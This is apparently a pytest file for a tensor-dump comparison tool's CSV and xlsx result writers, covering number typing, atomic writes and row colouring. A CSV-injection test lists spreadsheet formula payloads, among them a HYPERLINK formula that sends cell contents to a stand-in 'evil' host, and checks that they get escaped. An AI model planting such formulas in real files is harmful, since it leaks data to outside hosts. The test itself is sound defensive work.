"""Result writers: xlsx cells typed as Excel needs them, and files whole or absent."""

from __future__ import annotations

import csv
import errno
import math
from dataclasses import replace
from pathlib import Path

import pytest

from dumpcmp.errors import OutputError
from dumpcmp.host.core import OFFLINE_DATA, ComparePlan
from dumpcmp.host.metrics.offline_data import MetricValues
from dumpcmp.host.pipeline import CompareOptions
from dumpcmp.host.report.table import read_result, table_from_cells
from dumpcmp.host.rows import ResultRow
from dumpcmp.host.session import ResultSettings
from dumpcmp.host.sinks.csv_file import row_lines, write_csv
from dumpcmp.host.sinks.table import TableShape
from dumpcmp.host.sinks.xlsx_file import write_xlsx
from dumpcmp.host.verdict import Thresholds

openpyxl = pytest.importorskip("openpyxl")


def _row(index: int, cosine: float) -> ResultRow:
    values = [cosine, 0.5, 1e-7, math.inf, 0.25, 0.0, 1.0, 0.0, 1.0, 0.125, 2.0, 3.0, 4.0]
    return ResultRow(
        index=index, op_sequence=index + 10, op_type="Add", npu_name="123", npu_dtype="DT_FLOAT",
        npu_address=None, ground_truth="add", golden_dtype="DT_FLOAT", golden_address=None,
        tensor_index=f"add:output:{index}", shape=(2, 3), overflow=None, metrics=MetricValues(*values),
    )  # fmt: skip


def test_xlsx_numbers_are_numbers(tmp_path: Path) -> None:
    rows = [_row(0, 0.999999), _row(1, math.nan)]
    shape = TableShape(op_sequence=True)
    path = write_xlsx(tmp_path / "r.xlsx", rows, shape, thresholds=Thresholds())
    sheet = openpyxl.load_workbook(path).active
    header = [c.value for c in sheet[1]]
    first = dict(zip(header, sheet[2], strict=True))
    assert first["Index"].data_type == "n" and first["Index"].value == 0
    assert first["OpSequence"].value == 10
    assert first["CosineSimilarity"].data_type == "n" and first["CosineSimilarity"].value == 0.999999
    assert first["MaxAbsoluteError"].value == 0.5
    assert first["AccumulatedRelativeError"].value == 0  # the CSV's 6 decimals, as a number
    assert first["RelativeEuclideanDistance"].value == "inf"  # no number in a cell can say inf
    assert first["NPUDump"].value == "123" and first["NPUDump"].data_type == "s"  # names stay text
    assert first["StandardDeviation"].data_type == "s"
    assert dict(zip(header, sheet[3], strict=True))["CosineSimilarity"].value == "NaN"


def test_xlsx_on_a_full_disk_leaves_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def full_disk(self: object, data: bytes) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(Path, "write_bytes", full_disk)
    with pytest.raises(OutputError, match=r"cannot write .*r\.xlsx: No space left on device"):
        write_xlsx(tmp_path / "r.xlsx", [_row(0, 1.0)], TableShape(), thresholds=Thresholds())
    assert list(tmp_path.iterdir()) == []


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full (Linux)")
def test_xlsx_that_the_disk_refuses_leaves_no_half_closed_zip(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Writing into /dev/full fails as a full disk does. XlsxWriter's zip file, left half-closed,
    # printed "Exception ignored in: ZipFile.__del__ ... Traceback" when it was collected (pytest
    # reports that as an unraisable exception, which the suite treats as an error).
    import gc
    from collections.abc import Iterator
    from contextlib import contextmanager

    from dumpcmp.host.sinks import xlsx_file

    @contextmanager
    def into_full_device(target: Path) -> Iterator[Path]:
        yield Path("/dev/full")

    monkeypatch.setattr(xlsx_file, "atomic_path", into_full_device)
    with pytest.raises(OSError, match="No space left on device"):
        write_xlsx(tmp_path / "r.xlsx", [_row(0, 1.0)], TableShape(), thresholds=Thresholds())
    gc.collect()


# Names a spreadsheet runs as formulas when it opens the CSV (CSV injection, OWASP): each gets a
# leading quote, and so does a name that starts with one (reading back is then exact).
# (A carriage return, also a formula start, is left out: the CSV writer, ending lines with "\n",
# does not quote a cell holding one, and the row breaks there whatever the first character.)
_FORMULAS = ['=HYPERLINK("http://evil/"&A1,"x")', "+1", "-x", "@SUM(A1)", "\tname", "'q", "'=x"]
_NAME_COLUMNS = ("OpType", "NPUDump", "GroundTruth", "TensorIndex")


@pytest.mark.parametrize("as_text", [False, True], ids=["rows", "worker-lines"])
@pytest.mark.parametrize("name", _FORMULAS)
def test_csv_names_a_spreadsheet_would_run_are_quoted_and_read_back(
    tmp_path: Path, name: str, as_text: bool
) -> None:
    row = replace(
        _row(0, -0.5), op_type=name, npu_name=name, ground_truth=name, tensor_index=f"{name}:output:0"
    )
    shape = TableShape(op_sequence=True)
    text = [(0, row_lines([row], shape))] if as_text else []
    path = write_csv(tmp_path / "r.csv", [row], shape, text)
    with path.open(newline="", encoding="utf-8") as handle:
        header, cells = list(csv.reader(handle))
    written = dict(zip(header, cells, strict=False))
    assert [written[column] for column in _NAME_COLUMNS] == [
        "'" + name,
        "'" + name,
        "'" + name,
        f"'{name}:output:0",
    ]
    assert written["CosineSimilarity"] == "-0.500000"  # numbers are numbers, signs included
    # read back as the cells themselves read (the parser's own take on a name is not this test's)
    assert read_result(path).targets() == table_from_cells([shape.header(), shape.cells(row)]).targets()


def test_csv_of_plain_names_is_as_cann_writes_it(tmp_path: Path) -> None:
    row = replace(_row(0, 0.5), npu_name="/block2/Add", ground_truth="/block2/Add,/block2/act/Relu")
    path = write_csv(tmp_path / "r.csv", [row], TableShape())
    assert (
        path.read_text()
        .splitlines()[1]
        .startswith('0,Add,/block2/Add,DT_FLOAT,"/block2/Add,/block2/act/Relu",')
    )


def _fills(sheet: object) -> list[str]:
    """Each data row's fill colour ("" when none), read back as Excel stores it."""
    rows = list(sheet.iter_rows(min_row=2))  # type: ignore[attr-defined]
    return [row[0].fill.fgColor.rgb[2:] if row[0].fill.fill_type == "solid" else "" for row in rows]


def test_xlsx_rows_are_coloured_by_grade_with_an_advisor_sheet(tmp_path: Path) -> None:
    from tests.host.report.reports_kit import chain_cells

    cells = chain_cells(4, bad_from=2)
    cells[1][9:19] = ["NaN"] * 10  # op 0's input: not compared, no colour
    cells[7][17] = cells[8][17] = "0.300000"  # op 3's MaxRelativeError: below red on its own
    path = write_result_xlsx_from(tmp_path, cells)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["result", "advisor"]
    sheet = book["result"]
    green, red, yellow = "C6EFCE", "FFC7CE", "FFEB9C"
    # op 2: inputs agree, output does not -> red; op 3 inherits it -> yellow (input and output).
    assert _fills(sheet) == ["", green, green, green, green, red, yellow, yellow]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:T{len(cells)}"
    widths = {c: sheet.column_dimensions[c].width for c in "ACDT"}
    assert widths["D"] > widths["A"]  # NPUDump is as wide as its names, Index as its header
    advisor = [[c.value for c in row] for row in book["advisor"].iter_rows()]
    assert advisor[0][:3] == ["Detection", "Index", "Op"]
    assert advisor[1][:3] == ["first divergence", 2, "/layer2/conv/Conv"]


def test_one_writer_takes_a_torchair_table(tmp_path: Path) -> None:
    from dumpcmp.host.report.grading import grade_rows
    from dumpcmp.host.report.table import table_from_cells
    from dumpcmp.host.sinks.xlsx_file import write_result_xlsx

    header = ["API Name", "Stack Info", "Data Name", "Cosine", "EucDist", "MaxAbsErr", "MaxRelativeErr",
              "One Thousandth Err Ratio", "Five Thousandth Err Ratio", "Requires_grad Consistent", "Result",
              "Accuracy Reached or Not", "Err_message"]  # fmt: skip
    rows = [
        ["Mul.input.0", "", "[a, b]", "1.0", "0", "0", "0", "1.0", "1.0", "N/A", "PASS", "Yes", ""],
        ["Mul.output.0", "", "[c, d]", "0.2", "9", "9", "0.9", "0.1", "0.2", "N/A", "FAIL", "No", ""],
    ]
    grades = grade_rows(table_from_cells([header, *rows]))
    path = write_result_xlsx(tmp_path / "t.xlsx", header, rows, grades=grades)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["result"]  # no advice given, no advisor sheet
    sheet = book["result"]
    assert _fills(sheet) == ["C6EFCE", "FFC7CE"]
    assert sheet["D3"].value == 0.2 and sheet["D3"].data_type == "n"  # Cosine is a number
    assert sheet["J2"].value == "N/A"


def write_result_xlsx_from(tmp_path: Path, cells: list[list[str]]) -> Path:
    from dumpcmp.host.sinks.xlsx_file import write_xlsx_cells

    return write_xlsx_cells(tmp_path / "r.xlsx", cells[0], cells[1:], thresholds=Thresholds())


def test_csv_cells_spell_every_metric_as_number_does() -> None:
    # The metric cells are formatted several at once; each must read as ``number`` alone writes it.
    from dataclasses import replace

    from dumpcmp.host.metrics.offline_data import OFFLINE_DATA_COLUMNS
    from dumpcmp.host.sinks.table import number

    shape = TableShape(op_sequence=True)
    for special in [math.nan, -math.nan, math.inf, -math.inf, -0.0, 1e300, 1 / 3, 5]:
        row = replace(_row(0, 0.5), metrics=MetricValues(*[special] * 13))
        cells = dict(zip(shape.header(), shape.cells(row), strict=True))
        for column in OFFLINE_DATA_COLUMNS:
            if column != "StandardDeviation":
                assert cells[column] == number(special), (column, special)


@pytest.mark.parametrize("op_sequence", [True, False])
@pytest.mark.parametrize("overflow", [True, False])
def test_lines_a_worker_formats_make_the_file_the_rows_make(
    tmp_path: Path, op_sequence: bool, overflow: bool
) -> None:
    odd = MetricValues.unavailable('no golden, "quoted"\nover two lines')
    files = [
        [replace(_row(0, 0.5), overflow=True), replace(_row(0, 0.9), metrics=odd, shape=None)],
        [],
        [replace(_row(2, math.nan), op_sequence=None, npu_name="a,b", overflow=False)],
    ]
    closing = [replace(_row(0, math.nan), index=None, metrics=odd)]
    plan = ComparePlan(None, None, CompareOptions(overflow_detection=overflow))
    texts = [OFFLINE_DATA.row_text(rows, plan) for rows in files]
    rows = [replace(r, index=i) for i, file in enumerate(files) for r in file] + closing
    settings = ResultSettings(tmp_path, "1", op_sequence=op_sequence, overflow_detection=overflow)
    given = [(i, text) for i, text in enumerate(texts) if text is not None]
    assert len(given) == len(files)
    formatted, _ = OFFLINE_DATA.write_table(tmp_path / "a.csv", rows, settings, given)
    written, _ = OFFLINE_DATA.write_table(tmp_path / "b.csv", rows, settings)
    assert formatted.read_bytes() == written.read_bytes()
    assert b'"no golden, ""quoted""\nover two lines"' in written.read_bytes()


def test_a_file_with_an_address_leaves_its_lines_to_the_shard() -> None:
    # The Address columns appear when any row of the shard has one: one file cannot say.
    plan = ComparePlan(None, None, CompareOptions())
    assert OFFLINE_DATA.row_text([replace(_row(0, 1.0), npu_address=0x1000)], plan) is None
    assert OFFLINE_DATA.row_text([replace(_row(0, 1.0), golden_address=0x10)], plan) is None
    assert OFFLINE_DATA.row_text([_row(0, 1.0)], plan) is not None
